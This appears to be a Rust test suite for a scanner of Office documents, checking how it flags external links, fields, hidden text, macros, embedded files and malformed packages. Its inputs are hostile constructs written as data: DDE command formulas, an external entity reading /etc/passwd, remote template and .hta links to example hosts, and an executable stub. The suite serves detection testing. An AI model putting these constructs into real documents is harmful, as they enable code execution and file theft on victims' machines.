use super::*;
use crate::format::testing::{Seen, look};

/// A zip of stored members.
pub(in crate::format) fn zipped(members: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, data) in members {
        let mut crc = flate2::Crc::new();
        crc.update(data);
        let mut fields = crc.sum().to_le_bytes().to_vec();
        fields.extend((data.len() as u32).to_le_bytes());
        fields.extend((data.len() as u32).to_le_bytes());
        fields.extend((name.len() as u16).to_le_bytes());
        fields.extend([0, 0]);
        let offset = out.len() as u32;
        out.extend(b"PK\x03\x04\x14\0\0\0\0\0\0\0\x21\0");
        out.extend(&fields);
        out.extend(name.as_bytes());
        out.extend(*data);
        directory.extend(b"PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\x21\0");
        directory.extend(&fields);
        directory.extend([0; 10]);
        directory.extend(offset.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let at = out.len() as u32;
    out.extend(&directory);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend((members.len() as u16).to_le_bytes());
    out.extend((members.len() as u16).to_le_bytes());
    out.extend((directory.len() as u32).to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend([0, 0]);
    out
}

const TYPES: &str = r#"<Types><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>"#;

pub(super) fn relationships(list: &[(&str, &str, &str)]) -> String {
    let list = list.iter().map(|(id, kind, target)| {
        let mode = if target.contains(':') || target.starts_with('\\') { " TargetMode=\"External\"" } else { "" };
        format!("<Relationship Id=\"{id}\" Type=\"http://x/relationships/{kind}\" Target=\"{target}\"{mode}/>")
    });
    format!("<Relationships>{}</Relationships>", list.collect::<String>())
}

/// A package of these parts, the first the main one.
pub(super) fn package(main: &str, parts: &[(&str, &str)]) -> Vec<u8> {
    let root = relationships(&[("rId1", "officeDocument", main)]);
    let mut members = vec![("[Content_Types].xml", TYPES.as_bytes()), ("_rels/.rels", root.as_bytes())];
    members.extend(parts.iter().map(|(name, text)| (*name, text.as_bytes())));
    zipped(&members)
}

fn document(body: &str) -> Seen {
    let text = format!("<w:document xmlns:w='w'><w:body>{body}</w:body></w:document>");
    look(&FORMAT, "docx", &package("word/document.xml", &[("word/document.xml", &text)]))
}

fn linked(kind: &str, target: &str) -> Vec<String> {
    let rels = relationships(&[("rId9", kind, target)]);
    let parts = [("word/document.xml", "<document/>"), ("word/_rels/document.xml.rels", &*rels)];
    words(&look(&FORMAT, "docx", &package("word/document.xml", &parts)))
}

/// Severity and category of each finding, and the gaps.
fn words(seen: &Seen) -> Vec<String> {
    let facts = seen.facts();
    let mut words: Vec<_> = facts.iter().map(|fact| fact.split(' ').take(2).collect::<Vec<_>>().join(" ")).collect();
    words.sort();
    words
}

fn hidden(seen: &Seen) -> Vec<(String, String)> {
    let views = seen.texts.iter().filter(|view| view.hidden.is_some());
    views
        .map(|view| {
            (view.hidden.unwrap().category.to_string(), String::from_utf8_lossy(&view.text).trim_end().to_owned())
        })
        .collect()
}

fn run(properties: &str, text: &str) -> String {
    format!("<w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r>")
}

#[test]
fn a_plain_document_is_silent_and_read_by_paragraphs() {
    let seen = document(
        "<w:p><w:r><w:t>one </w:t></w:r><w:r><w:t>&amp; two</w:t></w:r></w:p><w:p><w:r><w:t>three</w:t></w:r></w:p>",
    );
    assert!(seen.facts().is_empty(), "{:?}", seen.facts());
    assert!(seen.children.is_empty());
    let view = seen.texts.iter().find(|view| view.text.starts_with(b"one")).unwrap();
    assert_eq!(&*view.text, b"one & two\nthree\n");
    let place = view.place_at(11);
    assert_eq!(place, Place::default().name("entry", "word/document.xml").number("paragraph", 2));
}

#[test]
fn what_relationships_reach() {
    assert_eq!(linked("hyperlink", "https://a.example/"), ["info net.link"]);
    assert_eq!(linked("hyperlink", "javascript:alert(1)"), ["medium html.url"]);
    assert_eq!(linked("hyperlink", "file://a.example/x.exe"), ["medium net.external_ref"]);
    assert_eq!(linked("hyperlink", "mailto:a@b.example"), [""; 0]);
    assert_eq!(linked("hyperlink", "search-ms:query=x"), ["high exec.protocol"]);
    assert_eq!(linked("attachedTemplate", "https://a.example/t.dotm"), ["high net.external_template"]);
    assert_eq!(linked("attachedTemplate", "\\\\a.example\\s\\t.dotm"), ["high net.external_template"]);
    assert_eq!(linked("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"), ["low net.external_ref"]);
    assert_eq!(linked("image", "http://a.example/p.png"), ["medium net.external_ref"]);
    assert_eq!(linked("image", "file://a.example/s/p.png"), ["high net.external_ref"]);
    assert_eq!(linked("oleObject", "http://a.example/x.hta"), ["high embed.ole", "high net.external_ref"]);
    assert_eq!(linked("frame", "http://a.example/f.html"), ["high net.external_ref"]);
    assert_eq!(linked("externalLinkPath", "file://a.example/s/book.xlsx"), ["medium net.external_ref"]);
    assert_eq!(linked("oleObject", "mhtml:http://a.example!x-usc:http://a.example"), ["high exec.protocol"]);
}

#[test]
fn fields_are_put_together_before_they_are_judged() {
    let field = |parts: &[&str]| {
        let parts = parts.iter().map(|part| format!("<w:r><w:instrText>{part}</w:instrText></w:r>"));
        format!(
            "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>{}<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>",
            parts.collect::<String>()
        )
    };
    let found = |body: &str| words(&document(body));
    assert_eq!(found(&field(&[" DDEAUTO c:\\\\x "])), ["high macro.dde"]);
    assert_eq!(found(&field(&["d", "d", "E", " cmd"])), ["high macro.dde"]);
    assert_eq!(found("<w:p><w:fldSimple w:instr=' DDE cmd x'/></w:p>"), ["high macro.dde"]);
    assert_eq!(found(&field(&["INCLUDEPICTURE \"http://a.example/p.png\" \\d"])), ["medium net.external_ref"]);
    assert_eq!(
        found(&field(&["LINK Word.Document.8 \"http://a.example/x\" \"\" \\a"])),
        ["high embed.ole", "high net.external_ref"]
    );
    assert_eq!(found(&field(&["HYPERLINK \\l \"here\""])), [""; 0]);
    assert_eq!(found(&field(&["HYPERLINK \"https://a.example/\" \\o \"tip\""])), ["info net.link"]);
    assert_eq!(found(&field(&["PAGE \\* MERGEFORMAT"])), [""; 0]);
    // One that never ends, and one whose name comes from codes.
    assert_eq!(
        found("<w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText>DDE x</w:instrText></w:r></w:p>"),
        ["high macro.dde"]
    );
    let codes = "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:fldChar w:fldCharType='begin'/>\
                 <w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType='end'/></w:r>\
                 <w:r><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType='end'/></w:r></w:p>";
    assert_eq!(found(codes), ["high macro.dde"]);
}

#[test]
fn what_a_person_does_not_see_is_kept_apart() {
    let body = format!(
        "<w:p>{}{}{}{}{}{}</w:p>",
        run("", "seen "),
        run("<w:vanish/>", "off"),
        run("<w:vanish w:val='0'/>", "on "),
        run("<w:color w:val='FFFFFF'/>", "white"),
        run("<w:color w:val='FFFFFF'/><w:shd w:fill='000000'/>", "shaded"),
        run("<w:sz w:val='2'/>", "tiny"),
    );
    let seen = document(&body);
    assert_eq!(
        hidden(&seen),
        [
            ("hidden.style".to_owned(), "off".to_owned()),
            ("hidden.color".to_owned(), "white".to_owned()),
            ("hidden.size".to_owned(), "tiny".to_owned()),
        ]
    );
    assert!(seen.texts().iter().any(|text| text == "seen on shaded\n"));
}

#[test]
fn styles_hide_too() {
    let styles = "<w:styles xmlns:w='w'><w:style w:styleId='A'><w:rPr><w:vanish/></w:rPr></w:style>\
                  <w:style w:styleId='B'><w:basedOn w:val='A'/></w:style></w:styles>";
    let text =
        "<w:document xmlns:w='w'><w:p><w:pPr><w:pStyle w:val='B'/></w:pPr><w:r><w:t>x</w:t></w:r></w:p></w:document>";
    let parts = [("word/document.xml", text), ("word/styles.xml", styles)];
    let seen = look(&FORMAT, "docx", &package("word/document.xml", &parts));
    assert_eq!(hidden(&seen), [("hidden.style".to_owned(), "x".to_owned())]);
}

fn workbook(sheet: &str, more: &[(&str, &str)]) -> Seen {
    let book = "<workbook xmlns:r='r'><sheets><sheet name='Data' sheetId='1' r:id='rId1'/></sheets></workbook>";
    let rels = relationships(&[("rId1", "worksheet", "worksheets/sheet1.xml")]);
    let mut parts =
        vec![("xl/worksheets/sheet1.xml", sheet), ("xl/workbook.xml", book), ("xl/_rels/workbook.xml.rels", &rels)];
    parts.extend(more);
    look(&FORMAT, "xlsx", &package("xl/workbook.xml", &parts))
}

fn cells(cells: &str) -> Seen {
    workbook(&format!("<worksheet><sheetData><row r='1'>{cells}</row></sheetData></worksheet>"), &[])
}

#[test]
fn cells_have_their_places() {
    let shared = "<sst><si><t>shared</t></si><si><r><t>un</t></r><r><t>used</t></r></si></sst>";
    let sheet = "<worksheet><cols><col min='3' max='4' hidden='1'/></cols><sheetData><row r='2'><c r='B2' t='s'><v>0</v></c>\
                 <c r='C2' t='inlineStr'><is><t>hidden</t></is></c><c><v>5</v></c></row><row r='3' hidden='1'>\
                 <c r='A3' t='str'><v>row</v></c></row></sheetData></worksheet>";
    let seen = workbook(sheet, &[("xl/sharedStrings.xml", shared)]);
    assert!(seen.facts().is_empty(), "{:?}", seen.facts());
    let view = seen.texts.iter().find(|view| view.text.starts_with(b"shared")).unwrap();
    assert_eq!(view.place_at(0), Place::default().name("sheet", "Data").name("cell", "B2"));
    assert_eq!(
        hidden(&seen),
        [("hidden.style".to_owned(), "hidden\t5\nrow".to_owned()), ("hidden.comment".to_owned(), "unused".to_owned()),]
    );
}

#[test]
fn formulas_that_reach_outside() {
    let found = |formula: &str| words(&cells(&format!("<c r='A1'><f>{formula}</f><v>0</v></c>")));
    assert_eq!(found("SUM(A2:A9)"), [""; 0]);
    assert_eq!(found("cmd|'/C calc'!A0"), ["high macro.dde"]);
    assert_eq!(found("WEBSERVICE(A1)"), ["medium net.external_ref", "medium script.formula"]);
    assert_eq!(found("HYPERLINK(\"http://a.example/?\"&amp;B1)"), ["info net.link", "medium script.formula"]);
    assert_eq!(found("HYPERLINK(\"http://a.example/\",\"x\")"), ["info net.link"]);
    let places = cells("<c r='C1'><f>WEBSERVICE(A1)</f></c>");
    assert_eq!(places.findings[0].place, Place::default().name("sheet", "Data").name("cell", "C1"));
}

#[test]
fn sizes_that_lie() {
    let found = |text: &str| words(&workbook(text, &[]));
    let far =
        "<worksheet><sheetData><row><c r='A1'><v>1</v></c><c r='XFD1048576'><v>1</v></c></row></sheetData></worksheet>";
    assert_eq!(found(far), ["medium bomb.dimensions"]);
    let lie = "<worksheet><dimension ref='A1:XFD1048576'/><sheetData><row><c r='A1'><v>1</v></c></row></sheetData></worksheet>";
    assert_eq!(found(lie), ["medium malformed.structure"]);
    let tall =
        "<worksheet><dimension ref='A1:C1048576'/><sheetData><row><c r='A1'><v>1</v></c></row></sheetData></worksheet>";
    assert_eq!(found(tall), [""; 0]);
    let sheet = "<worksheet/>";
    let shared = workbook(sheet, &[("xl/sharedStrings.xml", "<sst uniqueCount='4294967295'/>")]);
    assert_eq!(words(&shared), ["medium malformed.structure"]);
}

#[test]
fn parts_that_act() {
    let found = |name: &str, text: &str| words(&workbook("<worksheet/>", &[(name, text)]));
    assert_eq!(
        found("xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm='m'/>"),
        ["high macro.xl4", "medium type.mismatch"]
    );
    assert_eq!(
        found("xl/externalLinks/a.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
        ["high macro.dde"]
    );
    assert_eq!(
        found(
            "xl/connections.xml",
            "<connections><connection><webPr url='http://a.example/'/></connection></connections>"
        ),
        ["medium net.external_ref"]
    );
    assert_eq!(found("xl/activeX/activeX1.xml", "<ax:ocx xmlns:ax='a'/>"), ["medium active.activex"]);
    assert_eq!(
        found("xl/a.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
        ["high xml.external_entity"]
    );
    assert_eq!(found("xl/a.xml", "<a>"), ["gap malformed"]);
    assert_eq!(found("xl/a.xml", &"<a>".repeat(300)), ["high bomb.recursion"]);
}

#[test]
fn sheets_that_are_hidden() {
    let book = |state: &str| {
        let book =
            format!("<workbook xmlns:r='r'><sheets><sheet name='S' state='{state}' r:id='rId1'/></sheets></workbook>");
        let rels = relationships(&[("rId1", "worksheet", "worksheets/sheet1.xml")]);
        let parts = [
            ("xl/workbook.xml", &*book),
            ("xl/_rels/workbook.xml.rels", &rels),
            ("xl/worksheets/sheet1.xml", "<worksheet/>"),
        ];
        words(&look(&FORMAT, "xlsx", &package("xl/workbook.xml", &parts)))
    };
    assert_eq!(book("visible"), [""; 0]);
    assert_eq!(book("hidden"), ["low office.hidden_sheet"]);
    assert_eq!(book("veryHidden"), ["medium office.hidden_sheet"]);
}

#[test]
fn slides_and_what_stands_beside_them() {
    let shape = |x: i64, text: &str| {
        format!(
            "<p:sp><p:nvSpPr><p:cNvPr id='1'/></p:nvSpPr><p:spPr><a:xfrm><a:off x='{x}' y='0'/><a:ext cx='10' cy='10'/>\
             </a:xfrm></p:spPr><p:txBody><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"
        )
    };
    let slide = format!("<p:sld xmlns:p='p' xmlns:a='a'>{}{}</p:sld>", shape(5, "on"), shape(9_144_001, "beside"));
    let deck = "<p:presentation xmlns:p='p' xmlns:r='r'><p:sldIdLst><p:sldId id='256' r:id='rId1'/></p:sldIdLst></p:presentation>";
    let rels = relationships(&[("rId1", "slide", "slides/slide7.xml")]);
    let parts = [
        ("ppt/presentation.xml", deck),
        ("ppt/_rels/presentation.xml.rels", &rels),
        ("ppt/slides/slide7.xml", &slide),
        ("ppt/notesSlides/n.xml", "<p:notes xmlns:p='p' xmlns:a='a'><a:p><a:t>note</a:t></a:p></p:notes>"),
    ];
    let seen = look(&FORMAT, "pptx", &package("ppt/presentation.xml", &parts));
    assert!(seen.facts().is_empty(), "{:?}", seen.facts());
    assert_eq!(
        hidden(&seen),
        [("hidden.offpage".to_owned(), "beside".to_owned()), ("hidden.offpage".to_owned(), "note".to_owned()),]
    );
    let view = seen.texts.iter().find(|view| view.text.starts_with(b"on")).unwrap();
    assert_eq!(view.place.0.get("slide"), Some(&crate::finding::Coordinate::Number(1)));
    let program = "<p:sld xmlns:a='a'><a:hlinkClick action='ppaction://program'/></p:sld>"
        .replace("xmlns:a", "xmlns:p='p' xmlns:a");
    let parts = [("ppt/presentation.xml", deck), ("ppt/slides/slide7.xml", &program)];
    assert_eq!(words(&look(&FORMAT, "pptx", &package("ppt/presentation.xml", &parts))), ["high exec.shortcut"]);
}

#[test]
fn files_inside() {
    let found = |relation: &str, target: &str, file: &[u8]| {
        let root = relationships(&[("rId1", "officeDocument", "word/document.xml")]);
        let rels = relationships(&[("rId2", relation, target)]);
        let members = [
            ("[Content_Types].xml", TYPES.as_bytes()),
            ("_rels/.rels", root.as_bytes()),
            ("word/document.xml", b"<document/>"),
            ("word/_rels/document.xml.rels", rels.as_bytes()),
            (&*format!("word/{target}"), file),
        ];
        let seen = look(&FORMAT, "docx", &zipped(&members));
        (words(&seen), seen.children.len())
    };
    let none: Vec<String> = Vec::new();
    assert_eq!(found("image", "media/a.png", b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR"), (none.clone(), 1));
    assert_eq!(found("printerSettings", "printerSettings/p.bin", b"\x01\x02\x03\xff\xfe\x80"), (none, 0));
    assert_eq!(found("oleObject", "embeddings/o.bin", b"\x01\x02\x03\xff"), (vec!["medium embed.ole".into()], 1));
    let program = [b"MZ".as_slice(), &[0; 58], &64_u32.to_le_bytes(), b"PE\0\0\x4c\x01", &[0; 300]].concat();
    assert_eq!(
        found("package", "embeddings/a.bin", &program),
        (vec!["high embed.executable".into(), "medium embed.file".into()], 1)
    );
    assert_eq!(found("aFChunk", "a.htm", b"<html><body>x</body></html>"), (vec!["medium embed.file".into()], 1));
    assert_eq!(found("vbaProject", "theme/x.dat", b"x").0, ["gap malformed", "high macro.vba", "medium type.mismatch"]);
}

#[test]
fn packages_that_miss_something() {
    let found = |members: &[(&str, &[u8])]| words(&look(&FORMAT, "docx", &zipped(members)));
    let root = relationships(&[("rId1", "officeDocument", "word/document.xml")]);
    let main = ("word/document.xml", &b"<document/>"[..]);
    assert_eq!(found(&[("_rels/.rels", root.as_bytes()), main]), ["medium malformed.structure"]);
    assert_eq!(found(&[("[Content_Types].xml", TYPES.as_bytes()), main]), ["medium malformed.structure"]);
    assert_eq!(
        found(&[("[Content_Types].xml", TYPES.as_bytes()), ("_rels/.rels", root.as_bytes())]),
        ["medium malformed.structure"]
    );
}

#[test]
fn flat_documents() {
    let seen = |text: &str| {
        let bytes = Bytes::copy_from_slice(text.as_bytes());
        let subject = Subject { bytes: &bytes, kind: sniff::unknown() };
        let (mut findings, mut gaps) = (crate::finding::Findings::keeping(100), Vec::new());
        let mut out = Out::new(crate::bundle::ArtifactId(0), &subject, &mut findings, &mut gaps);
        let mut budget = Budget::new(crate::limits::Limits::default());
        let known = flat::inspect(&bytes, &mut out, &mut budget).unwrap();
        let children = out.children.len();
        let found = findings.finish().0;
        (known, found.iter().map(|finding| finding.rule.category.to_string()).collect::<Vec<_>>(), children)
    };
    let package = |inside: &str| {
        format!("<pkg:package xmlns:pkg='http://schemas.microsoft.com/office/2006/xmlPackage'>{inside}</pkg:package>")
    };
    assert_eq!(seen("<a/>"), (false, vec![], 0));
    let project = package(
        "<pkg:part pkg:contentType='application/vnd.ms-office.vbaProject'><pkg:binaryData>0M8R4KGxGuE=</pkg:binaryData></pkg:part>",
    );
    assert!(seen(&project).1.contains(&"macro.vba".to_owned()));
    let picture =
        package("<pkg:part pkg:contentType='image/png'><pkg:binaryData>iVBO\nRw==</pkg:binaryData></pkg:part>");
    assert_eq!(seen(&picture), (true, vec![], 1));
    let outside = package(
        "<pkg:part><Relationship Type='x/attachedTemplate' Target='http://a.example/t' TargetMode='External'/></pkg:part>",
    );
    assert_eq!(seen(&outside).1, ["net.external_template"]);
    let sheet = "<Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet' xmlns:ss='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula=\"=cmd|'/c x'!A0\"/></Workbook>";
    assert_eq!(seen(sheet).1, ["macro.dde"]);
    let macros =
        "<w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml' w:macrosPresent='yes'/>";
    assert_eq!(seen(macros).1, ["macro.vba"]);
    let open = "<office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:table='t'><table:table><table:table-cell table:formula='of:=DDE(1)'/></table:table></office:document>";
    assert_eq!(seen(open).1, ["macro.dde"]);
}

/// Records of a binary workbook: kind and content.
fn records(list: &[(u16, Vec<u8>)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (kind, data) in list {
        if *kind < 128 {
            out.push(*kind as u8);
        } else {
            out.extend([(*kind & 0x7f) as u8 | 0x80, (*kind >> 7) as u8]);
        }
        out.push(data.len() as u8);
        out.extend(data);
    }
    out
}

fn wide(text: &str) -> Vec<u8> {
    let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    [&(text.encode_utf16().count() as u32).to_le_bytes()[..], &units].concat()
}

#[test]
fn binary_workbooks() {
    let number = |number: u32| number.to_le_bytes().to_vec();
    let sheet = [number(2), number(1), wide("rId1"), wide("Far")].concat();
    let book = records(&[(131, vec![]), (156, sheet), (39, [vec![0; 9], wide("_xlnm.Auto_Open")].concat())]);
    let cells = records(&[
        (129, vec![]),
        (0, [number(4), vec![0; 13]].concat()),
        (7, [number(1), number(0), number(0)].concat()),
    ]);
    let shared = records(&[(159, vec![]), (19, [vec![0], wide("shared text")].concat())]);
    let link = records(&[(360, [1_u16.to_le_bytes().to_vec(), wide("cmd"), wide("/c x")].concat())]);
    let root = relationships(&[("rId1", "officeDocument", "xl/workbook.bin")]);
    let rels = relationships(&[("rId1", "worksheet", "worksheets/sheet1.bin")]);
    let types = "<Types><Default Extension='bin' ContentType='application/vnd.ms-excel.sheet.binary.macroEnabled.main'/></Types>";
    let seen = look(
        &FORMAT,
        "xlsx",
        &zipped(&[
            ("[Content_Types].xml", types.as_bytes()),
            ("_rels/.rels", root.as_bytes()),
            ("xl/_rels/workbook.bin.rels", rels.as_bytes()),
            ("xl/externalLinks/externalLink1.bin", &link),
            ("xl/worksheets/sheet1.bin", &cells),
            ("xl/sharedStrings.bin", &shared),
            ("xl/workbook.bin", &book),
        ]),
    );
    assert_eq!(words(&seen), ["high macro.dde", "low macro.autoexec", "medium office.hidden_sheet"]);
    let view = seen.texts.iter().find(|view| view.text.starts_with(b"shared text")).unwrap();
    assert_eq!(view.hidden.unwrap().category, "hidden.style");
    assert_eq!(view.place_at(0), Place::default().name("sheet", "Far").name("cell", "B5"));
}

#[test]
fn nothing_cut_is_silent_and_nothing_changed_panics() {
    let body = "<document><p><fldSimple instr='PAGE'/><r><t>text</t></r></p></document>";
    let styles = "<styles><style styleId='a'><rPr><vanish/></rPr></style></styles>";
    let whole = package("word/document.xml", &[("word/document.xml", body), ("word/styles.xml", styles)]);
    assert!(look(&FORMAT, "docx", &whole).facts().is_empty());
    for cut in 1..whole.len() {
        assert!(!look(&FORMAT, "docx", &whole[..cut]).facts().is_empty(), "cut at {cut}");
    }
    for at in 0..whole.len() {
        for byte in [0, 0xff, b'<', b'&', b'"'] {
            let mut changed = whole.clone();
            changed[at] = byte;
            look(&FORMAT, "docx", &changed);
        }
    }
}
